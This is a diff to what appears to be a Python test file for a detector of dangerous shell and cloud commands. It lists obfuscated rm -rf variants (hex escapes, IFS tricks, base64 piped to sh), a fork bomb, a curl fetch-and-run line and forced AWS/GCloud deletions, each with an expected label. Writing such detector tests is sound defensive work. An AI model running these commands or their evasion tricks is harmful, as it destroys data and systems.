@@ -24,6 +24,7 @@ COMMANDS = [
     ("mv f{e} /dev/null", "mv-to-devnull", False), ("bash -c \"$(curl -s https://h/{e})\"", "fetch-run-inline", False), ("x{e}(){ x{e}|x{e}& };x{e}", "fork-bomb", False), ("$'\\x72m' -rf /{e}", "rm-rf", False),
     (f"echo {_CODED} | base64 -d | sh # {{e}}", "rm-rf", True), (f"echo {_CODED} > f{{e}}", None, False), ("rm \\\n-rf /{e}", "rm-rf", False), ("# rm -rf /{e}\nls", None, True),
     ("`echo rm` -rf /{e}", "rm-rf", False), ("printf 'a;rm -rf b{e}'", None, True), ("D=${D:-/tmp/{e}}; ls $D", None, False), ("cat <(rm -rf /{e})", "rm-rf", True),
+    ("printf '\\x72\\x6d -rf /{e}' | /bin/sh", "rm-rf", False), ("printf '\\x72\\x6d -rf /{e}' | cat", None, False), ("IFS=X;rmX-rfX/{e}", "rm-rf", False), ("IFS=,; read a b{e}", None, False),
 ]
 PACKS = [
     ("aws s3 rb s3://b{e} --force", "aws-s3-rb-force"), ("aws s3 ls s3://b{e}", None), ("aws ec2 terminate-instances --ids {e}", "aws-delete"), ("gcloud compute instances delete i{e}", "gcloud-delete"),
